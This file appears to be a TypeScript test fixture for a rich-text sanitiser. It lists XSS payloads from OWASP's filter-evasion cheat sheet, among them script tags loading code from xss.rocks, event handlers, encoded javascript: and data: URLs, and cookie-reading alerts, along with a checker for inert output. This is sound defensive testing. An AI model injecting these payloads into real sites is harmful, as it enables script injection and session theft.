/*
 * Test-only: the attacks both rich-text sanitisers are run against (the server's and the
 * browser's tests import this one table), and the check that a sanitiser's output is inert.
 * The payloads are OWASP's XSS Filter Evasion Cheat Sheet
 * (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html),
 * a few of them shortened, plus the defects of issue 12 (style and data: kept).
 */
import {
  RICH_TEXT_ATTRIBUTES,
  RICH_TEXT_IMAGE_SCHEMES,
  RICH_TEXT_LINK_SCHEMES,
  RICH_TEXT_TAGS,
} from '../common/rich-text.ts'

export interface XssPayload {
  name: string
  html: string
}

const ALERT = "alert('XSS')"
/** `javascript:alert('XSS')` as decimal entities, zero-padded to 7 digits without semicolons. */
const PADDED_DECIMAL = [...`javascript:${ALERT}`]
  .map((c) => `&#${String(c.charCodeAt(0)).padStart(7, '0')}`)
  .join('')
const DECIMAL = [...`javascript:${ALERT}`].map((c) => `&#${c.charCodeAt(0)};`).join('')
const HEX = [...`javascript:${ALERT}`]
  .map((c) => `&#x${c.charCodeAt(0).toString(16).toUpperCase()}`)
  .join('')
// <script>alert('XSS')</script>
const HTML_BASE64 = 'PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K'

export const XSS_PAYLOADS: readonly XssPayload[] = [
  // scripts
  { name: 'script tag', html: '<script>alert("XSS")</script>' },
  { name: 'script tag, upper case, remote', html: '<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>' },
  { name: 'script tag, mixed case', html: '<ScRiPt>alert(1)</sCrIpT>' },
  {
    name: 'non-alpha after the tag name',
    html: '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  },
  { name: 'slash instead of space', html: '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>' },
  { name: 'extraneous open brackets', html: '<<SCRIPT>alert("XSS");//\\<</SCRIPT>' },
  { name: 'no closing script tag', html: '<SCRIPT SRC=http://xss.rocks/xss.js?< B >' },
  { name: 'protocol-relative script', html: '<SCRIPT SRC=//xss.rocks/.j>' },
  { name: 'escaping the script context', html: "</script><script>alert('XSS');</script>" },
  { name: 'ending a title', html: '</TITLE><SCRIPT>alert("XSS");</SCRIPT>' },
  { name: 'malformed IMG quotes', html: '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">' },
  { name: 'null byte in the tag name', html: '<SCR\u0000IPT>alert("XSS")</SCR\u0000IPT>' },
  {
    name: 'polyglot',
    html: "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
  },
  // event handlers
  { name: 'img onerror', html: '<img src=x onerror="alert(1)">' },
  { name: 'img onerror, unterminated', html: '<img src=x onerror=alert(1)//' },
  { name: 'img onmouseover', html: `<IMG SRC=# onmouseover="${ALERT}">` },
  { name: 'img onmouseover, empty src', html: `<IMG SRC= onmouseover="${ALERT}">` },
  { name: 'img onerror, entity-encoded handler', html: `<img src=x onerror="${PADDED_DECIMAL}">` },
  { name: 'a onmouseover, quoted', html: '<a onmouseover="alert(document.cookie)">xxs link</a>' },
  { name: 'a onmouseover, unquoted', html: '<a onmouseover=alert(document.cookie)>xxs link</a>' },
  { name: 'svg onload', html: `<svg/onload=${ALERT}>` },
  { name: 'body onload', html: `<BODY ONLOAD=${ALERT}>` },
  {
    name: 'body onload, odd characters',
    html: '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  },
  {
    name: 'details ontoggle',
    html: '<details open ontoggle=alert(1)><summary>x</summary></details>',
  },
  { name: 'audio onerror', html: '<audio src=x onerror=alert(1)>' },
  { name: 'video source onerror', html: '<video><source onerror="alert(1)"></video>' },
  { name: 'marquee onstart', html: '<marquee onstart=alert(1)>x</marquee>' },
  { name: 'comment trick', html: '<!--<img src="--><img src=x onerror=alert(1)//">' },
  {
    name: 'mXSS through noscript',
    html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  },
  {
    name: 'mXSS through math and style',
    html: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  },
  // javascript: and friends in img src
  { name: 'img javascript:', html: `<IMG SRC="javascript:${ALERT};">` },
  { name: 'img javascript:, unquoted', html: `<IMG SRC=javascript:${ALERT}>` },
  { name: 'img JaVaScRiPt:', html: `<IMG SRC=JaVaScRiPt:${ALERT}>` },
  { name: 'img javascript: with &quot;', html: '<IMG SRC=javascript:alert(&quot;XSS&quot;)>' },
  {
    name: 'img javascript: in grave accents',
    html: '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  },
  {
    name: 'img javascript: with fromCharCode',
    html: '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
  },
  { name: 'img decimal entities', html: `<IMG SRC=${DECIMAL}>` },
  { name: 'img padded decimal entities', html: `<IMG SRC=${PADDED_DECIMAL}>` },
  { name: 'img hex entities', html: `<IMG SRC=${HEX}>` },
  { name: 'img embedded tab', html: `<IMG SRC="jav\tascript:${ALERT};">` },
  { name: 'img encoded tab', html: `<IMG SRC="jav&#x09;ascript:${ALERT};">` },
  { name: 'img encoded newline', html: `<IMG SRC="jav&#x0A;ascript:${ALERT};">` },
  { name: 'img encoded carriage return', html: `<IMG SRC="jav&#x0D;ascript:${ALERT};">` },
  { name: 'img null byte', html: '<IMG SRC=java\u0000script:alert("XSS")>' },
  { name: 'img spaces and meta characters', html: `<IMG SRC=" &#14;  javascript:${ALERT};">` },
  { name: 'img vbscript:', html: '<IMG SRC=\'vbscript:msgbox("XSS")\'>' },
  { name: 'img dynsrc', html: `<IMG DYNSRC="javascript:${ALERT}">` },
  { name: 'img lowsrc', html: `<IMG LOWSRC="javascript:${ALERT}">` },
  { name: 'img data: svg', html: `<img src="data:image/svg+xml;base64,${HTML_BASE64}">` },
  { name: 'img data: png', html: '<img src="data:image/png;base64,iVBORw0KGgo=">' },
  { name: 'img mailto:', html: '<img src="mailto:a@example.com">' },
  // javascript:, data:, vbscript: in links
  { name: 'a javascript:', html: `<a href="javascript:${ALERT}">x</a>` },
  { name: 'a JaVaScRiPt:', html: `<a href="JaVaScRiPt:${ALERT}">x</a>` },
  { name: 'a leading spaces', html: `<a href="  javascript:${ALERT}">x</a>` },
  { name: 'a leading control character', html: `<a href="\u0001javascript:${ALERT}">x</a>` },
  { name: 'a tab-split', html: `<a href="java\tscript:${ALERT}">x</a>` },
  { name: 'a encoded tab', html: `<a href="java&#x09;script:${ALERT}">x</a>` },
  { name: 'a decimal entities', html: `<a href="${DECIMAL}">x</a>` },
  { name: 'a hex entities', html: `<a href="${HEX}">x</a>` },
  { name: 'a one entity', html: `<a href="javas&#99;ript:${ALERT}">x</a>` },
  { name: 'a &colon;', html: `<a href="javascript&colon;${ALERT}">x</a>` },
  { name: 'a data:text/html', html: `<a href="data:text/html;base64,${HTML_BASE64}">x</a>` },
  {
    name: 'a data: in plain text',
    html: '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  },
  { name: 'a vbscript:', html: '<a href="vbscript:msgbox(1)">x</a>' },
  {
    name: 'svg xlink:href',
    html: '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  },
  { name: 'link target without rel', html: '<a href="https://example.com" target="_blank">x</a>' },
  { name: 'link into another frame', html: '<a href="https://example.com" target="_top">x</a>' },
  // style
  {
    name: 'STYLE list-style-image',
    html: `<STYLE>li {list-style-image: url("javascript:${ALERT}");}</STYLE><UL><LI>XSS</br>`,
  },
  {
    name: 'STYLE @import broken up',
    html: '<STYLE>@im\\port\'\\ja\\vasc\\ript:alert("XSS")\';</STYLE>',
  },
  { name: 'STYLE text/javascript', html: `<STYLE TYPE="text/javascript">${ALERT};</STYLE>` },
  {
    name: 'STYLE class',
    html: `<STYLE>.XSS{background-image:url("javascript:${ALERT}");}</STYLE><A CLASS=XSS></A>`,
  },
  {
    name: 'style expression() broken by a comment',
    html: `<IMG STYLE="xss:expr/*XSS*/ession(${ALERT})">`,
  },
  { name: 'style expression() on an unknown tag', html: `<XSS STYLE="xss:expression(${ALERT})">` },
  { name: 'style behavior', html: '<XSS STYLE="behavior: url(xss.htc);">' },
  { name: 'style url(javascript:)', html: `<p style="background:url(javascript:${ALERT})">x</p>` },
  {
    name: 'div background-image',
    html: `<DIV STYLE="background-image: url(javascript:${ALERT})">x</DIV>`,
  },
  { name: 'div width expression()', html: `<DIV STYLE="width: expression(${ALERT});">x</DIV>` },
  { name: 'span color expression()', html: '<span style="color:expression(alert(1))">x</span>' },
  // embedding and navigation
  { name: 'iframe javascript:', html: `<IFRAME SRC="javascript:${ALERT};"></IFRAME>` },
  {
    name: 'iframe onmouseover',
    html: '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
  },
  { name: 'iframe, double open angle', html: '<iframe src=http://xss.rocks/scriptlet.html <' },
  { name: 'frameset', html: `<FRAMESET><FRAME SRC="javascript:${ALERT};"></FRAMESET>` },
  {
    name: 'object scriptlet',
    html: '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  },
  {
    name: 'embed data: svg',
    html: `<EMBED SRC="data:image/svg+xml;base64,${HTML_BASE64}" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  },
  {
    name: 'meta refresh javascript:',
    html: `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:${ALERT};">`,
  },
  {
    name: 'meta refresh data:',
    html: `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,${HTML_BASE64}">`,
  },
  { name: 'base href', html: `<BASE HREF="javascript:${ALERT};//">` },
  { name: 'link stylesheet', html: `<LINK REL="stylesheet" HREF="javascript:${ALERT};">` },
  { name: 'bgsound', html: `<BGSOUND SRC="javascript:${ALERT};">` },
  { name: 'body background', html: `<BODY BACKGROUND="javascript:${ALERT}">` },
  { name: 'table background', html: `<TABLE BACKGROUND="javascript:${ALERT}">` },
  { name: 'td background', html: `<TABLE><TD BACKGROUND="javascript:${ALERT}">` },
  { name: 'input image', html: `<INPUT TYPE="IMAGE" SRC="javascript:${ALERT};">` },
  { name: 'form action', html: '<form action="javascript:alert(1)"><button>x</button></form>' },
  { name: 'button formaction', html: '<button formaction="javascript:alert(1)">x</button>' },
  { name: 'isindex action', html: '<isindex action="javascript:alert(1)" type=image>' },
  {
    name: 'xml namespace and HTML+TIME',
    html: '<?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>alert("XSS")</SCRIPT>">',
  },
]

/**
 * What the editor writes, as it writes it: each must come back from a sanitiser unchanged
 * (up to how the HTML is serialised, e.g. `<br>` or `<br />`).
 */
export const RICH_TEXT_KEPT: readonly XssPayload[] = [
  {
    name: 'paragraphs and marks',
    html: '<p><strong>甲方</strong>：{客户名称}</p><p><em>乙</em><u>丙</u><s>丁</s><code>x</code></p>',
  },
  { name: 'a line break', html: '<p>第一行<br>第二行</p>' },
  { name: 'headings', html: '<h1>展览场地租赁合同</h1><h2>第一条</h2><p>正文</p>' },
  { name: 'lists', html: '<ul><li><p>一</p></li></ul><ol start="3"><li><p>三</p></li></ol>' },
  { name: 'a quote', html: '<blockquote><p>引文</p></blockquote>' },
  {
    name: 'a link as the editor writes it',
    html: '<p><a target="_blank" rel="noopener noreferrer nofollow" href="https://example.com/a?b=1&amp;c=2">链接</a></p>',
  },
  { name: 'a mail link', html: '<p><a href="mailto:venue@example.com">邮件</a></p>' },
  { name: 'an uploaded image', html: '<img src="/xgz/files/2025/hall.png" alt="hall.png">' },
  {
    name: 'an image by absolute URL',
    html: '<p><img src="https://example.com/a.png" alt="" width="300"></p>',
  },
  { name: 'the b and i of older text', html: '<p>需要<b>投影</b>和<i>音响</i></p>' },
]

/** An element of a parsed output, whatever parser read it. */
export interface ParsedElement {
  /** Lower case; outside the HTML namespace prefixed `svg:` or `math:` (an SVG `<a>` is no `<a>`). */
  tag: string
  /** Qualified names (`xlink:href`), values as parsed (entities decoded). */
  attributes: ReadonlyArray<{ name: string; value: string }>
}

// every attribute a browser reads a URL from (on any element), not only the allowed ones
const URL_ATTRIBUTES = new Set([
  'href',
  'src',
  'srcset',
  'action',
  'formaction',
  'background',
  'dynsrc',
  'lowsrc',
  'poster',
  'cite',
  'data',
  'codebase',
  'classid',
  'archive',
  'longdesc',
  'usemap',
  'ping',
  'manifest',
  'xlink:href',
])
const TAGS = new Set<string>(RICH_TEXT_TAGS)
// what a browser drops from a URL before reading its scheme, and then some
const URL_NOISE =
  // eslint-disable-next-line no-control-regex
  /[\u0000-\u0020\u007f-\u00a0\u1680\u180e\u2000-\u200f\u2028\u2029\u205f\u3000\ufeff]/g

/** The URL's scheme in lower case, or '' for a relative URL. */
export const schemeOf = (url: string): string =>
  /^([a-z][a-z0-9+.-]*):/i.exec(url.replace(URL_NOISE, ''))?.[1]?.toLowerCase() ?? ''

/**
 * What makes a sanitiser's output unsafe, one line per finding (none: it is inert): an
 * element off the allow-list, an attribute its tag may not carry (event handlers and `style`
 * named as such), a URL of a scheme not allowed there, a new-tab link without
 * rel="noopener noreferrer". Attribute values are taken as parsed, so entities are decoded.
 */
export function unsafeMarkup(elements: Iterable<ParsedElement>): string[] {
  const found: string[] = []
  for (const { tag, attributes } of elements) {
    if (!TAGS.has(tag)) found.push(`<${tag}> is not allowed`)
    const allowed: readonly string[] =
      RICH_TEXT_ATTRIBUTES[tag as keyof typeof RICH_TEXT_ATTRIBUTES] ?? []
    for (const { name, value } of attributes) {
      if (/^on/i.test(name)) found.push(`<${tag} ${name}> is an event handler`)
      else if (name === 'style') found.push(`<${tag} style> is kept`)
      else if (!allowed.includes(name)) found.push(`<${tag} ${name}> is not allowed`)
      if (URL_ATTRIBUTES.has(name)) {
        const scheme = schemeOf(value)
        const schemes: readonly string[] =
          tag === 'img' ? RICH_TEXT_IMAGE_SCHEMES : RICH_TEXT_LINK_SCHEMES
        if (scheme && !schemes.includes(scheme)) found.push(`<${tag} ${name}="${value}">`)
      }
    }
    const target = attributes.find((a) => a.name === 'target')?.value
    if (target !== undefined) {
      const rel = attributes.find((a) => a.name === 'rel')?.value.split(/\s+/) ?? []
      if (target !== '_blank') found.push(`<${tag} target="${target}">`)
      else if (!rel.includes('noopener') || !rel.includes('noreferrer'))
        found.push(`<${tag} target="_blank"> without rel="noopener noreferrer"`)
    }
  }
  return found
}
